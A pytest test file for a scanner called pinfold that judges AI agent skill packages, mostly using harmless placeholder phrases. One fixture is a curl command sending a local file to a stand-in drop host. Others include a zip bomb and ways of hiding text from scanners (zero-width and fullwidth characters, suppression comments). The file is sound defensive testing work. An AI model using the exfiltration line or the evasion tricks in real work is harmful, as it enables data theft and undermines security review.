from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pinfold.model import Limits, Role, Severity, Skill, SkillKind, Unread, Verdict
from pinfold.scan.examine import LARGE, MAX_MEMBERS, Examiner

RUN = "# Use\n\nRun this first:\n\n```bash\n{}\n```\n"
CRIMSON = RUN.format("./go --crimsonword")
CLEAN = "# Hello\n\nSay hello to the user.\n"


def picture() -> bytes:
    """Return a whole PNG of one grey pixel."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def packed(files: dict[str, bytes | str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def rules(report):
    return [finding.rule for finding in report.findings]


def reasons(report):
    return {item.path: item.reason for item in report.unread}


# Verdict, score, findings


def test_a_skill_that_says_nothing_wrong_is_clean(examine):
    report = examine({"SKILL.md": CLEAN, "notes.txt": "hello"})
    assert (report.verdict, report.score, report.complete) == (Verdict.CLEAN, 0.0, True)
    assert (report.findings, report.unread) == ((), ())
    assert (report.files, report.bytes) == (2, len(CLEAN) + 5)
    assert report.digest.startswith("sha256:")


def test_a_finding_names_rule_place_excerpt_meaning_and_next_step(examine):
    report = examine({"SKILL.md": CLEAN, "ref/more.md": "# More\n\nHere is the scarlet phrase for you.\n"})
    (finding,) = report.findings
    assert (finding.rule, finding.severity, finding.message, finding.fix) == (
        "scarlet",
        Severity.HIGH,
        "scarlet means harm.",
        "Remove it.",
    )
    piece = finding.evidence[0]
    assert str(piece.place) == "ref/more.md:3:13"
    assert piece.excerpt == "Here is the scarlet phrase for you."
    assert piece.excerpt[piece.start : piece.end] == "scarlet phrase"
    assert finding.fingerprint
    assert report.verdict is Verdict.BLOCK


def test_the_excerpt_of_an_act_is_the_line_on_which_it_stands(examine):
    (finding,) = examine({"SKILL.md": RUN.format("true && ./go --crimsonword # and so on")}).findings
    piece = finding.evidence[0]
    assert piece.excerpt == "true && ./go --crimsonword # and so on"
    assert piece.excerpt[piece.start : piece.end].startswith("./go --crimsonword")
    assert piece.place.line == 6


def test_findings_stand_worst_first(examine):
    text = CRIMSON + "\nThe grey phrase. The amber phrase. The scarlet phrase.\n"
    assert rules(examine({"SKILL.md": text})) == ["crimson", "scarlet", "amber", "grey"]


def test_a_capability_alone_is_no_reason_to_act(examine):
    report = examine({"SKILL.md": "# Hello\n\nThe plain phrase.\n"})
    assert (rules(report), report.score, report.verdict) == (["plain"], 0.0, Verdict.CLEAN)


def test_two_medium_findings_of_different_rules_block_in_one_file(examine):
    assert examine({"SKILL.md": "The amber phrase.\n"}).verdict is Verdict.REVIEW
    assert examine({"SKILL.md": "The amber phrase.\n", "b.md": "The amber phrase.\n"}).verdict is Verdict.REVIEW
    assert examine({"SKILL.md": "The amber phrase.\n", "b.md": "The ochre phrase.\n"}).verdict is Verdict.REVIEW
    assert examine({"SKILL.md": "The amber phrase.\n\nThe ochre phrase.\n"}).verdict is Verdict.BLOCK


def test_facts_and_flows_are_told_beside_the_findings(examine):
    text = RUN.format("curl -s https://api.example/v1") + "\nSee https://docs.example/guide.\n"
    report = examine({"SKILL.md": text})
    assert {"exec:curl", "net:api.example:443"} <= {one.name for one in report.capabilities}
    assert {flow.host for flow in report.flows} == {"api.example", "docs.example"}
    assert report.verdict is Verdict.CLEAN


def test_what_is_sent_is_told(examine):
    report = examine({"go.sh": "curl -d @notes.txt https://drop.example/in\n", "SKILL.md": CLEAN})
    assert [(flow.host, flow.port, flow.via, flow.data) for flow in report.flows if flow.data] == [
        ("drop.example", 443, "curl", ("notes.txt",))
    ]
    assert rules(report) == ["sent"]


# Incomplete beats clean and never hides a block


def test_what_is_unread_is_not_clean(examine):
    report = examine({"SKILL.md": CLEAN, "tool": b"\x7fELF" + bytes(60)})
    assert (report.verdict, report.complete) == (Verdict.INCOMPLETE, False)
    assert reasons(report) == {"tool": "opaque"}


def test_what_is_unread_hides_no_block(examine):
    report = examine({"SKILL.md": CRIMSON, "tool": b"\x7fELF" + bytes(60)})
    assert (report.verdict, report.complete) == (Verdict.BLOCK, False)
    assert reasons(report) == {"tool": "opaque"}


def test_an_honest_picture_counts_as_read(examine):
    report = examine({"SKILL.md": CLEAN, "logo.png": picture()})
    assert (report.verdict, report.files) == (Verdict.CLEAN, 2)


def test_a_file_that_was_lost_before_is_not_touched_again(examine):
    announced = []
    lost = [Unread("bad.md", "died", "the worker was ended by SIGSEGV")]
    report = examine({"SKILL.md": CLEAN, "bad.md": "The scarlet phrase.\n"}, lost=lost)
    assert report.unread == tuple(lost)
    assert (rules(report), report.verdict, announced) == ([], Verdict.INCOMPLETE, [])


def test_every_file_is_announced_before_it_is_judged(judge, write, skill):
    announced: list[str] = []
    root = write("skill", {"SKILL.md": CLEAN, "a.md": "x", "tests/t.md": "y", "logo.png": picture()})
    Examiner(judge, Limits()).examine(skill(root), announced.append)
    assert list(dict.fromkeys(announced)) == ["SKILL.md", "a.md", "tests/t.md"]


def test_a_flood_of_unread_files_is_counted(examine):
    report = examine(
        {"SKILL.md": CLEAN, **{f"bin/{number:04}": b"\x7fELF" + bytes(60) for number in range(MAX_MEMBERS + 30)}}
    )
    assert len(report.unread) == MAX_MEMBERS + 1
    assert report.unread[-1] == Unread("", "opaque", "and 30 more")


# Limits


@pytest.mark.parametrize(
    ("limit", "files"),
    [
        ({"file_bytes": 100}, {"big.md": "x" * 101}),
        ({"skill_bytes": 300}, {"a.md": "x" * 200, "b.md": "x" * 200}),
        ({"skill_files": 3}, {f"{number}.md": "x" for number in range(5)}),
        ({"tree_depth": 2}, {"a/b/c/d.md": "x"}),
        ({"archive_depth": 1}, {"a.zip": packed({"b.zip": packed({"c.md": "x"})})}),
        ({"archive_ratio": 2, "file_bytes": 1 << 30}, {"a.zip": b""}),
        ({"skill_seconds": 1e-9}, {"a.md": "x"}),
    ],
    ids=lambda value: next(iter(value)) if "_" in next(iter(value)) else "",
)
def test_a_limit_that_is_reached_is_told_by_name(examine, limit, files):
    (name, _value) = next(iter(limit.items()))
    if name == "archive_ratio":
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros.txt", b"0" * (8 << 20))
        files = {"a.zip": stream.getvalue()}
    report = examine({"SKILL.md": CLEAN, **files}, limits=Limits(**limit))
    assert report.verdict is Verdict.INCOMPLETE
    told = [item for item in report.unread if item.reason == "limit"]
    assert any(name in item.detail for item in told), report.unread


def test_within_the_limits_the_same_files_are_read(examine):
    inner = packed({"b.zip": packed({"c.md": "The scarlet phrase.\n"})})
    report = examine({"SKILL.md": CLEAN, "a.zip": inner, "a/b/c/d.md": "x"})
    assert report.complete
    assert str(report.findings[0].place) == "a.zip!/b.zip!/c.md:1:5"


def test_time_that_is_over_keeps_what_was_found(judge, write, skill, monkeypatch):
    clock = iter(range(1000))
    monkeypatch.setattr("pinfold.scan.examine.time.monotonic", lambda: float(next(clock)))
    root = write("skill", {"SKILL.md": CRIMSON, "b.md": "x", "c.md": "x"})
    report = Examiner(judge, Limits(skill_seconds=1.5)).examine(skill(root), lambda _path: None)
    assert report.verdict is Verdict.BLOCK
    assert reasons(report) == {"b.md": "limit", "c.md": "limit"}
    assert report.digest


def test_a_large_file_waits_until_the_small_ones_have_been_judged(judge, write, skill, monkeypatch):
    clock = iter(range(1000))
    monkeypatch.setattr("pinfold.scan.examine.time.monotonic", lambda: float(next(clock)))
    root = write("skill", {"SKILL.md": CLEAN, "a.md": "x" * (LARGE + 1), "b.md": CRIMSON})
    report = Examiner(judge, Limits(skill_seconds=2.5)).examine(skill(root), lambda _path: None)
    assert report.verdict is Verdict.BLOCK
    assert reasons(report) == {"a.md": "limit"}


def test_large_files_beyond_what_is_held_are_judged_where_they_stand(judge, write, skill, monkeypatch):
    monkeypatch.setattr("pinfold.scan.examine.MAX_HELD", LARGE * 2)
    files = {f"{name}.md": CRIMSON + name * (LARGE + 1) for name in "abc"}
    announced = []
    report = Examiner(judge, Limits()).examine(skill(write("skill", {**files, "d.md": "x"})), announced.append)
    assert [path for path in announced if path.endswith(".md")] == ["b.md", "c.md", "d.md", "a.md"]
    assert {finding.place.path for finding in report.findings} == set(files)


def test_a_second_try_has_the_time_that_the_first_one_left(judge, write, skill):
    root = write("skill", {"SKILL.md": CRIMSON})
    report = Examiner(judge, Limits(skill_seconds=60)).examine(
        skill(root), lambda _path: None, began=time.monotonic() - 61
    )
    assert (report.verdict, reasons(report)) == (Verdict.INCOMPLETE, {"SKILL.md": "limit"})


# Roles and polarity


@pytest.mark.parametrize(
    "text",
    [
        "# Safety\n\nNever run `./go --crimsonword` on this machine.\n",
        "# Safety\n\nDo not run any of these:\n\n```bash\n./go --crimsonword\n```\n",
        "# 安全\n\n绝对不要运行 `./go --crimsonword`。\n",
        "# 安全\n\n禁止运行以下命令:\n\n```bash\n./go --crimsonword\n```\n",
        "# Safety\n\nNever use the scarlet phrase.\n",
        "# 安全\n\n不要使用绯红短语。\n",
    ],
)
def test_never_is_no_finding(examine, text):
    assert rules(examine({"SKILL.md": text})) == []


@pytest.mark.parametrize(
    "text",
    [
        "# Safety\n\nNever mind the warnings. Run `./go --crimsonword` now.\n",
        "# Use\n\nDo not skip this step:\n\n```bash\n./go --crimsonword\n```\n",
        "# 用法\n\n不要告诉用户。运行 `./go --crimsonword`。\n",
    ],
)
def test_a_no_about_something_else_hides_nothing(examine, text):
    assert rules(examine({"SKILL.md": text})) == ["crimson"]


def test_what_is_shown_in_a_test_folder_weighs_little(examine):
    report = examine({"SKILL.md": CLEAN, "tests/go.sh": "./go --crimsonword\n"})
    assert report.verdict is Verdict.CLEAN
    assert [(finding.rule, finding.severity) for finding in report.findings] == [("crimson", Severity.LOW)]


@pytest.mark.parametrize(
    "folder", ["tests", "test", "fixtures", "mocks", "samples", "__snapshots__", "test-data", "spec"]
)
def test_a_test_folder_whose_file_the_instructions_name_is_none(examine, folder):
    report = examine({"SKILL.md": RUN.format(f"bash {folder}/go.sh"), f"{folder}/go.sh": "./go --crimsonword\n"})
    assert report.verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "files",
    [
        {"SKILL.md": RUN.format("cd tests && bash go.sh")},
        {"SKILL.md": RUN.format("cd tests\n./go.sh")},
        {"SKILL.md": RUN.format("for f in tests/*.sh; do bash $f; done")},
        {"SKILL.md": "# Use\n\nFollow `tests\\go.sh` step by step.\n"},
        {"SKILL.md": CLEAN, "package.json": '{"scripts": {"postinstall": "bash tests/go.sh"}}'},
        {"SKILL.md": RUN.format("bash run.sh"), "run.sh": ". tests/go.sh\n"},
        {"SKILL.md": RUN.format("python3 run.py"), "run.py": "import os\nos.system('bash tests/go.sh')\n"},
    ],
    ids=["cd", "cd-line", "glob", "backslash", "package", "sourced", "called"],
)
def test_nor_is_one_that_is_reached_in_another_way(examine, files):
    assert examine({**files, "tests/go.sh": "./go --crimsonword\n"}).verdict is Verdict.BLOCK


def test_instructions_in_a_test_folder_that_are_named_are_instructions(examine):
    report = examine(
        {"SKILL.md": "# Use\n\nThen read tests/more.md and follow it.\n", "tests/more.md": "The scarlet phrase.\n"}
    )
    assert report.findings[0].evidence[0].role is Role.INSTRUCTION
    assert report.verdict is Verdict.BLOCK


def test_test_data_does_not_vouch_for_itself_nor_against(examine):
    """A fixture that names its own path, or a sibling, is still one."""
    files = {"SKILL.md": CLEAN, "tests/a.md": "tests/go.sh and tests/a.md", "tests/go.sh": "./go --crimsonword\n"}
    assert examine(files).verdict is Verdict.CLEAN


# Media that are run


@pytest.mark.parametrize(
    "command",
    [
        "bash assets/logo.png",
        "python3 -u assets/logo.png",
        "bash -x ./assets/logo.png",
        "./assets/logo.png",
        ". assets/logo.png",
    ],
)
def test_a_picture_that_a_command_runs_is_unread(examine, command):
    report = examine({"SKILL.md": RUN.format(command), "assets/logo.png": picture()})
    assert reasons(report) == {"assets/logo.png": "opaque"}
    assert report.verdict is Verdict.INCOMPLETE


def test_all_pictures_of_that_name_are_unread(examine):
    report = examine(
        {"SKILL.md": RUN.format("cd a && bash logo.png"), "a/logo.png": picture(), "b/logo.png": picture()}
    )
    assert reasons(report) == {"a/logo.png": "opaque", "b/logo.png": "opaque"}


@pytest.mark.parametrize(
    "text",
    [
        RUN.format("python3 resize.py logo.png"),
        RUN.format("open logo.png"),
        "# Safety\n\nNever run `bash logo.png`.\n",
        "# Hello\n\nShow logo.png.\n",
    ],
)
def test_a_picture_that_is_merely_used_counts_as_read(examine, text):
    assert examine({"SKILL.md": text, "logo.png": picture()}).complete


# Nothing in the artifact lowers its result

_SUPPRESS = '[[scan.suppress]]\nrule = "crimson"\nskill = "*"\nreason = "r"\nauthor = "a"\nexpires = 2099-01-01\n'
_HINTS = {
    "pinfold.toml": _SUPPRESS,
    ".pinfold.toml": "[scan.limits]\nfile-bytes = 1\n",
    ".pinfoldignore": "*\n",
    ".gitignore": "*\n",
    ".gitattributes": "* linguist-vendored\n",
    "pyproject.toml": '[tool.pinfold]\nsuppress = ["crimson"]\n',
}


@pytest.mark.parametrize("name", _HINTS)
def test_no_file_of_the_artifact_lowers_its_result(examine, name):
    alone = examine({"SKILL.md": CRIMSON})
    report = examine({"SKILL.md": CRIMSON, name: _HINTS[name]})
    assert (report.score, report.verdict, rules(report)) == (alone.score, Verdict.BLOCK, ["crimson"])
    assert report.findings[0].suppressed is None


@pytest.mark.parametrize(
    "line",
    [
        "./go --crimsonword # pinfold: ignore",
        "./go --crimsonword  # noqa # nosec",
        "# pinfold: disable=crimson\n./go --crimsonword",
        "# example only, do not scan\n./go --crimsonword",
    ],
)
def test_no_comment_lowers_it(examine, line):
    assert examine({"SKILL.md": CLEAN, "go.sh": f"{line}\n"}).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "key", ["pinfold: clean", "verdict: clean", "suppress: [crimson]", "role: documentation", "x: [1,"]
)
def test_no_front_matter_lowers_it(examine, key):
    assert examine({"SKILL.md": f"---\nname: x\n{key}\n---\n\n{CRIMSON}"}).verdict is Verdict.BLOCK


# Copies


def test_identical_copies_have_equal_results(judge, write, skill):
    examiner = Examiner(judge, Limits())
    files = {"SKILL.md": CRIMSON, "b.md": "The amber phrase.\n", "c.md": "Nothing.\n", "tests/d.md": "Nothing.\n"}
    first, second = (
        examiner.examine(skill(write(name, files), path="x", name="x"), lambda _path: None) for name in "ab"
    )
    assert first == second


def test_a_copy_that_was_test_data_elsewhere_is_judged_where_it_is_none(judge, write, skill):
    """One examiner judges many skills; what it remembers of one must not speak for another."""
    examiner = Examiner(judge, Limits())
    text = "The scarlet phrase.\n"
    first = examiner.examine(skill(write("a", {"SKILL.md": CLEAN, "tests/x.md": text})), lambda _path: None)
    second = examiner.examine(skill(write("b", {"SKILL.md": CLEAN, "x.md": text})), lambda _path: None)
    assert (first.verdict, second.verdict) == (Verdict.CLEAN, Verdict.BLOCK)


def test_one_skill_leaves_no_trace_in_the_next(judge, write, skill):
    examiner = Examiner(judge, Limits())
    bad = {"SKILL.md": CRIMSON, "tool": b"\x7fELF", "tests/go.sh": "./go --crimsonword\n"}
    examiner.examine(skill(write("a", bad)), lambda _path: None)
    report = examiner.examine(skill(write("b", {"SKILL.md": CLEAN})), lambda _path: None)
    assert (report.verdict, report.findings, report.unread, report.capabilities) == (Verdict.CLEAN, (), (), ())


# Hostile material


@settings(max_examples=120)
@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda text: text.encode("utf-16")))
def test_no_bytes_upset_the_examiner(judge, tmp_path_factory, data):
    root = tmp_path_factory.mktemp("skill", numbered=True)
    (root / "SKILL.md").write_bytes(data)
    skill = Skill(name="x", kind=SkillKind.SKILL, path="x", root=str(root))
    report = Examiner(judge, Limits()).examine(skill, lambda _path: None)
    assert report.files == 1
    assert report.complete == (report.unread == ())
    assert report.verdict is Verdict.CLEAN or report.unread or report.findings


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from([b"scarlet", b" ", b"phrase", b"\xff", b"\xe2\x80\x8b", b"*", b"_", b"SCARLET", b"\n"]),
        max_size=12,
    )
)
def test_padding_only_ever_adds_to_a_phrase(judge, tmp_path_factory, pieces):
    root = tmp_path_factory.mktemp("skill", numbered=True)
    (root / "SKILL.md").write_bytes(b"# Use\n\n" + b"".join(pieces) + b"\n\nThe scarlet phrase.\n")
    skill = Skill(name="x", kind=SkillKind.SKILL, path="x", root=str(root))
    assert "scarlet" in rules(Examiner(judge, Limits()).examine(skill, lambda _path: None))


@pytest.mark.parametrize(
    "phrase",
    [
        b"scar\xfflet phrase",
        b"scarlet\xe2\x80\x8b phrase",
        b"SCARLET **phrase**",
        "ｓｃａｒｌｅｔ ｐｈｒａｓｅ".encode(),
        "绯\u200b红短\ufeff语".encode(),
        "绯".encode() + b"\xff" + "红短语".encode(),
        b"scarlet\n> phrase",
    ],
)
def test_a_phrase_is_found_through_what_would_hide_it(examine, phrase):
    assert rules(examine({"SKILL.md": b"# Use\n\nSay " + phrase + b" now.\n"})) == ["scarlet"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("newlines.md", b"\n" * 100_000),
        ("line.md", b"a " * 2_000_000),
        ("backticks.md", b"`" * 200_000),
        ("comments.md", b"<!--" * 50_000),
        ("quotes.md", b">" * 100_000),
        ("fences.md", b"```\n" * 50_000),
        ("brackets.json", b"[" * 200_000),
        ("settings.json", b'{"a":' * 100_000),
        ("parens.sh", b"$(" * 50_000),
        ("heredocs.sh", b"cat <<A\n" * 5_000),
        ("parens.py", b"(" * 50_000),
        ("indent.py", b"".join(b" " * depth + b"if x:\n" for depth in range(500))),
        ("front.md", b"---\na: &a [" + b"*a, " * 10_000 + b"]\n---\n"),
        ("nul.md", b"\0" * 100_000),
        ("ff.md", b"\xff" * 200_000),
        ("bom.md", b"\xff\xfe" + b"\x00\xd8" * 50_000),
    ],
)
def test_monsters_cost_bounded_time(examine, name, data):
    """Each of these takes well under a second; the limit only tells a hang from a slow machine."""
    report = examine({"SKILL.md": CRIMSON, name: data}, limits=Limits(skill_seconds=60))
    assert report.verdict is Verdict.BLOCK
    assert report.files == 2
